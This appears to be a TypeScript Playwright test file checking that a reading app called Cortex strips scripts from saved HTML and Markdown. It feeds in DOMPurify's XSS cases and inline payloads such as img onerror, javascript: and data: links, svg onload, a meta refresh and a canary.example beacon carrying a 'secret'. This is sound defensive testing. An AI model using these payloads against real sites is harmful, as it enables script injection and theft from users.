import { existsSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import type { Browser } from "playwright";
import { afterAll, beforeAll, expect, test } from "vitest";
import { Cortex, launch } from "./cortex";

const here = (path: string) => fileURLToPath(new URL(path, import.meta.url));
/** All of DOMPurify's own cases where the shared data is; an excerpt of them everywhere. */
const ALL = process.env.CORTEX_SHARED ?? here("../../../../../shared");
const CASES = [`${ALL}/data/hostile/xss-dompurify.json`, here("../samples/xss-dompurify.json")].find((path) =>
  existsSync(path),
);
const PER_ITEM = 16;
/** What one case leaves open must not swallow the next. */
const CLOSED = `"'>--></style></script></textarea></title></noscript></template></xmp></select></option></svg></math></div>`;

interface Case {
  i: number;
  payload: string;
}

let cortex: Cortex;
let browser: Browser;
beforeAll(async () => {
  [cortex, browser] = await Promise.all([Cortex.start(), launch()]);
});
afterAll(async () => {
  await browser.close();
  await cortex.stop();
});

/** Open items one after the other in one page and see what it complains of. */
async function read(ids: string[], view = ""): Promise<string[]> {
  const { page, complaints } = await cortex.open(browser, "/library");
  for (const id of ids) {
    await page.goto(`${cortex.url}/item/${id}${view}`);
    if (view === "") await page.locator("article.reading").waitFor();
    else await page.frameLocator("iframe").getByText("The end of the cases").waitFor();
    const foreign = await page.evaluate(() =>
      [...document.querySelectorAll<HTMLElement>("article.reading *")].flatMap((element) =>
        [...element.attributes]
          .filter(
            ({ name, value }) =>
              /^on|^style$|^src/i.test(name) || /^\s*(?:javascript|data|vbscript):/i.test(value),
          )
          .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
      ),
    );
    expect(foreign).toEqual([]);
  }
  await page.close();
  return complaints;
}

test("17: none of DOMPurify's cases runs, asks or reports anything, read or looked at", async () => {
  const cases = JSON.parse(readFileSync(CASES ?? "", "utf8")) as Case[];
  expect(cases.length).toBeGreaterThan(30);
  const ids: string[] = [];
  for (let at = 0; at < cases.length; at += PER_ITEM) {
    const content = cases
      .slice(at, at + PER_ITEM)
      .map(
        ({ i, payload }) =>
          `<p>Case number ${i} of those that try to run something in a reader.</p><div>${payload}${CLOSED}`,
      )
      .join("\n");
    ids.push(
      await cortex.save({
        title: `<img src=x onerror=alert(1)> cases from ${at}`,
        content: `<p>The end of the cases comes first, where nothing can swallow it.</p>${content}`,
        content_type: "text/html",
      }),
    );
  }
  expect(await read(ids)).toEqual([]);
  expect(await read(ids, "?view=original")).toEqual([]);
}, 240_000);

test("17: what Markdown can smuggle stays text", async () => {
  const content = `# <img src=x onerror=alert(1)>

[press](javascript:alert(1)) [press](data:text/html,<script>alert(1)</script>) [press](vbscript:msgbox)

![](https://canary.example/?d=secret) ![a picture][remote]

[remote]: https://canary.example/pixel.png

<script>alert(1)</script> <iframe src="https://canary.example/"></iframe> <svg onload=alert(1)>

<a href="https://canary.example" ping="https://canary.example/ping">link</a> $\\href{javascript:alert(1)}{x}$

<link rel="preconnect" href="https://canary.example"> <meta http-equiv="refresh" content="0;url=https://canary.example">

\`{{7*7}} {a.__class__}\``;
  const id = await cortex.save({ title: "A note of a stranger", content, content_type: "text/markdown" });
  expect(await read([id])).toEqual([]);
});
